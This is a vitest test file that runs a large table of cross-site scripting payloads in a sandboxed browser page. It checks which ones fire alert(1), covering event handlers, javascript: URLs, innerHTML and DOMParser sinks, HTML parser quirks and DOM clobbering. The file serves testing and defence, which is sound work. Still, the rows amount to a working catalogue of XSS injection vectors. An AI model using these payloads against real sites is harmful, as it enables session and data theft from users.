import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { createSandbox } from "./sandbox.ts";

/**
 * What runs in which context, as the HTML standard has it. Every row was also opened in Chromium 156, and what
 * it alerted is what stands here.
 */
const rows: [name: string, html: string, alerts: string[]][] = [
  [
    "svg inner",
    `<div id=o></div><script>o.innerHTML="<svg onload=alert(1)></svg>"</script>`,
    ["1"],
  ],
  [
    "svgsvg inner",
    `<div id=o></div><script>o.innerHTML="<svg><svg onload=alert(1)></svg></svg>"</script>`,
    ["1"],
  ],
  [
    "svg append",
    `<script>var s=document.createElementNS("http://www.w3.org/2000/svg","svg");s.setAttribute("onload","alert(1)");onload=()=>document.body.append(s)</script>`,
    [],
  ],
  [
    "img detached",
    `<script>document.createElement('div').innerHTML="<img src=x onerror=alert(1)>"</script>`,
    ["1"],
  ],
  [
    "details inner",
    `<div id=o></div><script>o.innerHTML="<details open ontoggle=alert(1)>x"</script>`,
    ["1"],
  ],
  ["details parsed", "<details open ontoggle=alert(1)>x</details>", ["1"]],
  [
    "autofocus inner",
    `<div id=o></div><script>o.innerHTML="<input autofocus onfocus=alert(1)>"</script>`,
    ["1"],
  ],
  [
    "style inner",
    `<div id=o></div><script>o.innerHTML="<style onload=alert(1)></style>"</script>`,
    ["1"],
  ],
  ["marquee", "<marquee onstart=alert(1)>x</marquee>", []],
  ["animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", ["1"]],
  [
    "animate inner",
    `<div id=o></div><script>o.innerHTML="<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"</script>`,
    ["1"],
  ],
  ["svg image", "<svg><image href=x onerror=alert(1)></image></svg>", ["1"]],
  ["obj err", "<object data=x onerror=alert(1)></object>", ["1"]],
  ["obj js", "<object data='javascript:alert(1)'></object>", []],
  ["emb js", "<embed src='javascript:alert(1)'>", []],
  ["audio source", "<audio><source src=x onerror=alert(1)></audio>", ["1"]],
  [
    "video det",
    `<script>document.createElement('div').innerHTML="<video src=x onerror=alert(1)></video>"</script>`,
    ["1"],
  ],
  [
    "vs det",
    `<script>document.createElement('div').innerHTML="<video><source src=x onerror=alert(1)></video>"</script>`,
    ["1"],
  ],
  ["select", "<select><img src=x onerror=alert(1)></select>", ["1"]],
  ["input img", "<input type=image src=x onerror=alert(1)>", ["1"]],
  ["meta js", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", []],
  ["loc", "<script>location='javascript:alert(1)'</script>", ["1"]],
  ["ifr", "<iframe src='javascript:alert(1)'></iframe>", ["1"]],
  ["ifr parent", "<iframe src='javascript:parent.alert(1)'></iframe>", ["1"]],
  ["srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", ["1"]],
  ["sandboxed", "<iframe sandbox=allow-scripts srcdoc='<script>alert(1)</script>'></iframe>", []],
  ["sandbox none", "<iframe sandbox srcdoc='<script>parent.alert(1)</script>'></iframe>", []],
  [
    "ifr inner",
    `<div id=o></div><script>o.innerHTML="<iframe onload=alert(1)></iframe>"</script>`,
    ["1"],
  ],
  [
    "ifr srcdoc inner",
    "<div id=o></div><script>o.innerHTML=\"<iframe srcdoc='<script>alert(1)<\\/script>'></iframe>\"</script>",
    ["1"],
  ],
  ["loadstart", "<video src=x onloadstart=alert(1)></video>", ["1"]],
  ["pageshow", "<body onpageshow=alert(1)>", ["1"]],
  ["svg script ent", "<svg><script>alert&#40;1)</script></svg>", ["1"]],
  ["script unclosed", "<script>alert(1)", []],
  ["svg unclosed", "<svg onload=alert(1)", []],
  ["svg no gt", "<svg onload=alert(1)//", []],
  ["attr unclosed", "<img src=x onerror='alert(1)", []],
  ["templ", "<template><img src=x onerror=alert(1)></template>", []],
  ["noscript", "<noscript><img src=x onerror=alert(1)></noscript>", []],
  ["onerror alert", "<script>onerror=alert;throw 1</script>", ["Uncaught 1"]],
  ["obj img", "<object data=x onload=alert(1)></object>", []],
  ["embed onload", "<embed src=x onload=alert(1)>", ["1"]],
  ["link err", "<link rel=stylesheet href=x onerror=alert(1)>", ["1"]],
  [
    "link inner",
    `<div id=o></div><script>o.innerHTML="<link rel=stylesheet href=x onerror=alert(1)>"</script>`,
    ["1"],
  ],
  ["brk", `<img src=x onerror="}alert(1);{">`, []],
  ["brk 2", `<img src=x onerror="}}}}+alert(1)+function(){{{{">`, []],
  ["dialog", "<dialog open onclose=alert(1)>x</dialog>", []],
  ["body focus", "<body onfocus=alert(1)>", []],
  ["input focus two", "<a href=x autofocus onfocus=alert(1)>x</a>", ["1"]],
  ["tabx", "<x tabindex=1 autofocus onfocus=alert(1)>x</x>", ["1"]],
  ["xnot", "<x autofocus onfocus=alert(1)>x</x>", []],
  ["frameset", "<frameset onload=alert(1)>", ["1"]],
  ["docwrite s", "<script>document.write('<script>alert(1)<'+'/script>')</script>", ["1"]],
  [
    "ctx frag",
    "<script>document.body||document.documentElement;onload=()=>document.body.append(document.createRange().createContextualFragment('<script>alert(1)</scr'+'ipt>'))</script>",
    ["1"],
  ],
  [
    "dp",
    `<script>new DOMParser().parseFromString("<img src=x onerror=alert(1)>","text/html")</script>`,
    [],
  ],
  [
    "dp append",
    `<script>onload=()=>document.body.append(new DOMParser().parseFromString("<img src=x onerror=alert(1)>","text/html").body.firstChild)</script>`,
    ["1"],
  ],
  [
    "dp script",
    `<script>onload=()=>document.body.append(new DOMParser().parseFromString("<script>alert(1)</scr"+"ipt>","text/html").head.firstChild)</script>`,
    [],
  ],
  [
    "tmpl inner",
    "<script>t=document.createElement('template');t.innerHTML='<img src=x onerror=alert(1)>';</script>",
    [],
  ],
  [
    "tmpl append",
    "<script>onload=()=>{t=document.createElement('template');t.innerHTML='<img src=x onerror=alert(1)><scri'+'pt>alert(2)</scri'+'pt>';document.body.append(t.content)}</script>",
    ["1"],
  ],
  ["details closed", "<details ontoggle=alert(1)>x</details>", []],
  ["bgsound", "<body background=x onerror=alert(1)>", []],
  [
    "clone script",
    "<script>onload=()=>{var d=document.createElement('div');d.innerHTML='<scri'+'pt>alert(1)</scri'+'pt>';document.body.append(d)}</script>",
    [],
  ],
  ["ent attr", `<img src=x onerror="&#97;lert&lpar;1&rpar;">`, ["1"]],
  ["ent no semi", "<img src=x onerror=&#x61lert(1)>", ["1"]],
  [
    "js upper",
    `<a id=c href="JaVaScRiPt:alert(1)">x</a><script>onload=()=>c.click()</script>`,
    ["1"],
  ],
  [
    "js tab",
    `<a id=c href="java&#9;script:alert(1)">x</a><script>onload=()=>c.click()</script>`,
    ["1"],
  ],
  [
    "js ctl",
    `<a id=c href="&#1;javascript:alert(1)">x</a><script>onload=()=>c.click()</script>`,
    ["1"],
  ],
  [
    "js colon ent",
    `<a id=c href="javascript&colon;alert(1)">x</a><script>onload=()=>c.click()</script>`,
    ["1"],
  ],
  [
    "js blank",
    `<a id=c target=_blank href="javascript:alert(1)">x</a><script>onload=()=>c.click()</script>`,
    [],
  ],
  [
    "js space in",
    `<a id=c href="java script:alert(1)">x</a><script>onload=()=>c.click()</script>`,
    [],
  ],
  [
    "js pct",
    `<a id=c href="javascript:%61lert(1)">x</a><script>onload=()=>c.click()</script>`,
    ["1"],
  ],
  [
    "js pct scheme",
    `<a id=c href="javascript%3aalert(1)">x</a><script>onload=()=>c.click()</script>`,
    [],
  ],
  [
    "vbs",
    `<a id=c href="data:text/html,<script>alert(1)</script>">x</a><script>onload=()=>c.click()</script>`,
    [],
  ],
  ["textarea", "<textarea><img src=x onerror=alert(1)></textarea>", []],
  ["textarea break", "<textarea></textarea><img src=x onerror=alert(1)>", ["1"]],
  ["title", "<title><script>alert(1)</script></title>", []],
  ["title break", "<title></title><script>alert(1)</script>", ["1"]],
  ["style raw", "<style><img src=x onerror=alert(1)></style>", []],
  ["xmp", "<xmp><img src=x onerror=alert(1)></xmp>", []],
  ["comment", "<!--<img src=x onerror=alert(1)>-->", []],
  ["comment bang", "<!-- --!><img src=x onerror=alert(1)>-->", ["1"]],
  ["comment early", "<!--><img src=x onerror=alert(1)>-->", ["1"]],
  ["comment dash", "<!---><img src=x onerror=alert(1)>-->", ["1"]],
  ["bogus", "<!x><img src=x onerror=alert(1)>", ["1"]],
  ["bogus in", "<!x <img src=x onerror=alert(1)>", []],
  ["qm", "<?x<img src=x onerror=alert(1)>", []],
  ["end bogus", "</ img src=x onerror=alert(1)>", []],
  ["slash", "<img/src=x/onerror=alert(1)>", []],
  ["slash q", `<img src="x"onerror="alert(1)">`, ["1"]],
  ["nl", "<img\nsrc=x\nonerror\n=\nalert(1)>", ["1"]],
  ["ff", "<img\fsrc=x\fonerror=alert(1)>", ["1"]],
  ["caps", "<IMG SRC=x ONERROR=alert(1)>", ["1"]],
  ["dup attr", "<img src=x onerror=1 onerror=alert(1)>", []],
  ["backtick", "<img src=`x`onerror=alert(1)>", []],
  ["sp", "< img src=x onerror=alert(1)>", []],
  ["nul", "<scr\u0000ipt>alert(1)</script>", []],
  ["script slash", "<script/x>alert(1)</script>", ["1"]],
  ["script sp", "<script >alert(1)</script >", ["1"]],
  ["script in str", `<script>var a="</script><script>alert(1)//";</script>`, ["1"]],
  ["script str", `<script>var a="<script>";alert(a)</script>`, ["<script>"]],
  ["dbl esc", "<script><!--<script>alert(1)</script>", []],
  [
    "dbl esc 2",
    "<script><!--<script></script>alert(1)</script><img src=x onerror=alert(2)>",
    ["2"],
  ],
  ["esc html", "&lt;img src=x onerror=alert(1)&gt;", []],
  ["attr esc", `<input value="&quot; autofocus onfocus=alert(1)">`, []],
  ["attr esc single", "<input value='&quot; autofocus onfocus=alert(1) x=&#39;'>", []],
  ["attr break", `<input value="" autofocus onfocus=alert(1) x="">`, ["1"]],
  ["unq", "<input value=a autofocus onfocus=alert(1)>", ["1"]],
  [
    "js ent handler",
    `<div id=c onclick="var a='&#39;;alert(1)//'">x</div><script>onload=()=>c.click()</script>`,
    ["1"],
  ],
  ["math title", "<math><mtext><img src=x onerror=alert(1)></mtext></math>", ["1"]],
  ["svg style img", "<svg><style><img src=x onerror=alert(1)></style></svg>", ["1"]],
  ["svg title", "<svg><title><img src=x onerror=alert(1)></title></svg>", ["1"]],
  ["svg textarea", "<svg><textarea><img src=x onerror=alert(1)>", ["1"]],
  ["svg cdata", "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>", []],
  ["html cdata", "<div><![CDATA[<img src=x onerror=alert(1)>]]></div>", []],
  [
    "svg a",
    `<svg><a id=c xlink:href="javascript:alert(1)"><text>x</text></a></svg><script>onload=()=>c.dispatchEvent(new MouseEvent("click",{bubbles:true,cancelable:true}))</script>`,
    ["1"],
  ],
  [
    "form action",
    `<form id=f action="javascript:alert(1)"></form><script>onload=()=>f.submit()</script>`,
    ["1"],
  ],
  [
    "formaction",
    `<form><button id=c formaction="javascript:alert(1)">x</button></form><script>onload=()=>c.click()</script>`,
    ["1"],
  ],
  [
    "text content",
    `<div id=o></div><script>o.textContent="<img src=x onerror=alert(1)>"</script>`,
    [],
  ],
  ["inner text", `<div id=o></div><script>o.innerText="<img src=x onerror=alert(1)>"</script>`, []],
  ["outer", `<div id=o></div><script>o.outerHTML="<img src=x onerror=alert(1)>"</script>`, ["1"]],
  [
    "adj",
    `<div id=o></div><script>o.insertAdjacentHTML("beforeend","<img src=x onerror=alert(1)>")</script>`,
    ["1"],
  ],
  [
    "adj script",
    '<div id=o></div><script>o.insertAdjacentHTML("beforeend","<script>alert(1)<\\/script>")</script>',
    [],
  ],
  [
    "create",
    `<script>var s=document.createElement("script");s.text="alert(1)";document.head.append(s)</script>`,
    ["1"],
  ],
  [
    "create src",
    `<script>var s=document.createElement("script");s.src="data:text/javascript,alert(1)";document.head.append(s)</script>`,
    ["1"],
  ],
  [
    "set attr",
    `<div id=o></div><script>o.setAttribute("onclick","alert(1)");o.click()</script>`,
    ["1"],
  ],
  ["eval p", `<script>eval("alert(1)")</script>`, ["1"]],
  ["fn p", `<script>new Function("alert(1)")()</script>`, ["1"]],
  ["st", `<script>setTimeout("alert(1)",10)</script>`, ["1"]],
  [
    "clobber",
    `<a id=cfg href="https://evil.example/x"></a><script>alert(String(window.cfg))</script>`,
    ["https://evil.example/x"],
  ],
  [
    "clobber form",
    "<form id=f><input name=action></form><script>alert(f.action.tagName)</script>",
    ["INPUT"],
  ],
  [
    "let global",
    "<script>const a=1;class B{x(){return 2}}</script><script>alert(a+new B().x())</script>",
    ["3"],
  ],
  ["json script", "<script type=application/json>alert(1)</script>", []],
  ["plain text", "<plaintext><img src=x onerror=alert(1)>", []],
  ["table img", "<table><img src=x onerror=alert(1)></table>", ["1"]],
  ["p", "<p><p onclick=1><b><i></b></i><img src=x onerror=alert(1)>", ["1"]],
  [
    "hash decode",
    `<script>document.write(decodeURIComponent("%3Cimg src=x onerror=alert(1)%3E"))</script>`,
    ["1"],
  ],
  [
    "order",
    `<script>alert("a");addEventListener("load",()=>alert("c"));document.addEventListener("DOMContentLoaded",()=>alert("b"))</script>`,
    ["a", "b", "c"],
  ],
  ["defer order", `<script type=module>alert("m")</script><script>alert("c")</script>`, ["c", "m"]],
  ["throw catch", "<script>nope()</script><script>alert(1)</script>", ["1"]],
  ["srcset img", "<img srcset=x onerror=alert(1)>", ["1"]],
  [
    "picture",
    "<picture><source srcset=x onerror=alert(2)><img onerror=alert(1) src=y></picture>",
    ["1"],
  ],
  ["img no src", "<img onerror=alert(1)>", []],
  ["img empty", `<img src="" onerror=alert(1)>`, ["1"]],
  ["img data bad", `<img src="data:image/png;base64,xx" onerror=alert(1)>`, ["1"]],
  ["js img", `<img src="javascript:alert(1)">`, []],
  [
    "m xss",
    '<div id=o></div><script>o.innerHTML="<noscript><p title=\\"</noscript><img src=x onerror=alert(1)>\\">"</script>',
    ["1"],
  ],
  [
    "noscript dp",
    `<script>document.body||0;var d=new DOMParser().parseFromString('<noscript><img src=x onerror=alert(1)></noscript>',"text/html");alert(d.querySelector("img")?"img":"none")</script>`,
    ["img"],
  ],
  ["templ deep", "<template><script>alert(1)</script></template>", []],
  [
    "import templ",
    "<template id=t><img src=x onerror=alert(1)><script>alert(2)</script></template><script>document.body.append(document.importNode(t.content,true))</script>",
    [],
  ],
  [
    "round trip",
    `<div id=o title="&lt;b&gt;">&amp;lt;</div><script>alert(o.outerHTML)</script>`,
    ['<div id="o" title="&lt;b&gt;">&amp;lt;</div>'],
  ],
  [
    "attr round",
    '<div id=o></div><script>o.innerHTML="<a title=\'x\\"><img src=x onerror=alert(1)>\'>q</a>"</script><script>o.innerHTML=o.innerHTML</script>',
    [],
  ],
];

const page = (html: string) => ({
  url: "https://shop.example/",
  status: 200,
  headers: [["Content-Type", "text/html; charset=utf-8"]],
  html,
});

describe("payloads", () => {
  let seen: { alerts: string[] }[] = [];
  const sandbox = createSandbox({ warm: 1 });
  beforeAll(async () => {
    const { run } = await sandbox;
    const input = { pages: rows.map(([, html]) => page(html)) };
    const limits = { timeMs: 60_000 };
    const { result } = await run({
      language: "javascript",
      image: "page",
      files: {},
      input,
      limits,
    });
    seen = (result as { pages: typeof seen }).pages;
  }, 90_000);
  afterAll(async () => (await sandbox).close());

  it.each(rows.map(([name, html, alerts], index) => ({ name, html, alerts, index })))(
    "$name: $html",
    ({ alerts, index }) => {
      expect(seen[index]!.alerts).toEqual(alerts);
    },
  );
});
